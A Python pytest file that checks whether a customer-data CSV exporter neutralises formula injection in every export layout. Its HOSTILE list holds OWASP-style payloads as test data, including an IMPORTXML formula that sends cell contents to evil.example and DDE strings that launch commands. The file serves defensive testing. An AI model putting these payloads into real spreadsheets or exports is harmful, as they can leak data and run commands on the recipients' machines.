"""CSV injection: hostile text from source data is inert in every export layout.

Every layout is rendered from member rows whose text fields hold formulas (OWASP's CSV
injection payloads), and read back with the csv module: no cell may begin with a formula
trigger, each hostile cell is the original with one leading ``'``, numbers (negative ones
too) stay numbers, and ordinary names (CJK, accented, apostrophes) come back unchanged.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pytest

from lifecycle.activation.exports import FORMULA_TRIGGERS, LAYOUTS, neutralise, render_csv

DAY = dt.date(2024, 6, 30)

HOSTILE = [
    '=HYPERLINK("http://evil.example","click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "=1+1\r\n=2+2",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    "＝1+1",  # full-width equals sign
    "＠SUM(A1)",
    "-",
    "=",
]

NORMAL = [
    "美咲",
    "山田",
    "Zoë",
    "François",
    "O'Brien",
    "Anne-Marie",  # a hyphen inside is no trigger
    "Søren Ødegård",
    "李 小龙",
    "Nguyễn",
    'He said "hi", then left',
    "a+b=c",
]

TEXT_FIELDS = ("first_name", "last_name", "segment_name", "top_reasons", "recommended_action")


def member(i: int, text: str, email: str | None = None) -> dict:
    """Return a member row with `text` in every free-text field."""
    return {
        "customer_key": f"k{i:04d}",
        "email": email or f"p{i}@example.com",
        "first_name": text,
        "last_name": text,
        "country_code": "DE",
        "stage": "active",
        "recommended_action": text,
        "churn_probability": -0.25 if i % 2 else Decimal("0.7512"),
        "risk_band": "high",
        "segment_id": -3,
        "segment_name": text,
        "clv_12m": Decimal("-12.5"),
        "top_reasons": text,
        "score_date": DAY,
    }


def render(layout: str, rows: list[dict], audience: str = "vip") -> list[dict[str, str]]:
    """Return the layout's CSV of `rows` as read back by the csv module."""
    header, fmt = LAYOUTS[layout]
    data = render_csv(header, [fmt(r, audience, DAY) for r in rows])
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def starts_a_formula(cell: str) -> bool:
    """Return whether a spreadsheet program could read `cell` as a formula (not a number)."""
    if NUMBER.fullmatch(cell):
        return False  # a plain (negative) number evaluates to itself
    return cell[:1] in FORMULA_TRIGGERS or cell.lstrip(" ")[:1] in FORMULA_TRIGGERS


@pytest.mark.parametrize("layout", sorted(LAYOUTS))
def test_no_cell_of_any_layout_can_start_a_formula(layout) -> None:
    rows = [member(i, text) for i, text in enumerate(HOSTILE)]
    rows.append(member(99, "x", email="=cmd|'/C calc'!A0@example.com"))
    cells = 0
    for read in render(layout, rows):
        for column, cell in read.items():
            cells += 1
            assert not starts_a_formula(cell), (layout, column, cell)
    assert cells == len(rows) * len(LAYOUTS[layout][0])


NAMED = sorted(layout for layout, (header, _) in LAYOUTS.items() if "First Name" in header)


@pytest.mark.parametrize("layout", [*NAMED, "generic"])
def test_hostile_names_keep_their_text_behind_one_quote(layout) -> None:
    header = LAYOUTS[layout][0]
    name_columns = [c for c in header if c.lower().replace(" ", "_") in {"first_name", "last_name"}]
    assert len(name_columns) == 2
    rendered = render(layout, [member(i, t) for i, t in enumerate(HOSTILE)])
    for text, read in zip(HOSTILE, rendered, strict=True):
        for column in name_columns:
            assert read[column] == "'" + text, (layout, column)


def test_numeric_columns_stay_numbers_even_when_negative() -> None:
    [generic] = render("generic", [member(1, "=1+1")])
    assert generic["churn_probability"] == "-0.2500"
    assert generic["clv_12m"] == "-12.50"
    assert generic["segment_id"] == "-3"
    assert generic["score_date"] == "2024-06-30"
    [klaviyo] = render("klaviyo", [member(2, "=1+1")])
    assert (klaviyo["churn_probability"], klaviyo["clv_12m"]) == ("0.7512", "-12.50")


@pytest.mark.parametrize("layout", sorted(LAYOUTS))
def test_normal_names_round_trip_unchanged(layout) -> None:
    rows = [member(i, text) for i, text in enumerate(NORMAL)]
    read = render(layout, rows)
    assert len(read) == len(NORMAL)
    for text, got in zip(NORMAL, read, strict=True):
        for column in LAYOUTS[layout][0]:
            if column.lower().replace(" ", "_") in {*TEXT_FIELDS, "segment"}:
                assert got[column] == text, (layout, column)


def test_a_hostile_email_is_neutralised_and_a_normal_one_is_not() -> None:
    [bad, good] = render(
        "mailchimp", [member(1, "x", email="+1@example.com"), member(2, "x", "a.b@example.com")]
    )
    assert (bad["Email Address"], good["Email Address"]) == ("'+1@example.com", "a.b@example.com")


def test_every_layout_is_covered() -> None:
    assert set(LAYOUTS) == {*NAMED, "generic", "google_ads", "meta"}  # the last two: hashes


def test_neutralise_is_idempotent_on_its_output() -> None:
    for text in HOSTILE + NORMAL:
        once = neutralise(text)
        assert neutralise(once) == once
